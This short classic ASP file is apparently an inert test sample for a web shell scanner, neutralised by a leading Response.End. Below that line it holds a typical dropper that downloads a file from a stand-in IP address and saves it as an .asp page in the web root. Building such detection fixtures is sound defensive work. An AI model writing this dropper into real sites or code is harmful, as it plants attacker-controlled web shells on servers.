<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set xPost = CreateObject("Microsoft.XMLHTTP")
xPost.Open "GET", "http://192.0.2.10/big.txt", False
xPost.Send()
Set sGet = CreateObject("ADODB.Stream")
sGet.Mode = 3 : sGet.Type = 1 : sGet.Open()
sGet.Write(xPost.responseBody)
sGet.SaveToFile Server.MapPath("1.asp"), 2
%>
